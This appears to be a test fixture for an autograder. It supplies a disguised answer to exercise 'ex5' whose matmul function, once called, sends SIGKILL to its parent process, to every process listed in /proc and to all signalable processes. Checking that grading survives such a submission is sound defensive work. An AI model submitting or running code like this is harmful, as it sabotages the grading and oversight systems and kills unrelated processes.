"""Kills its parent, its process group and everything else that it may.

The grading goes on, the exercise gets nothing, the others keep their points.
"""

AIM = "grader"
KEEPS_THE_REST = True
ANSWERS = {
    "ex5": """
import os
import signal

own = os.getpid()
victims = [os.getppid(), *(int(name) for name in os.listdir("/proc") if name.isdigit())]


def matmul(a, b):
    for victim in victims:
        if victim != own:
            try:
                os.kill(victim, signal.SIGKILL)
            except OSError:
                pass
    os.kill(-1, signal.SIGKILL)
    return None
"""
}
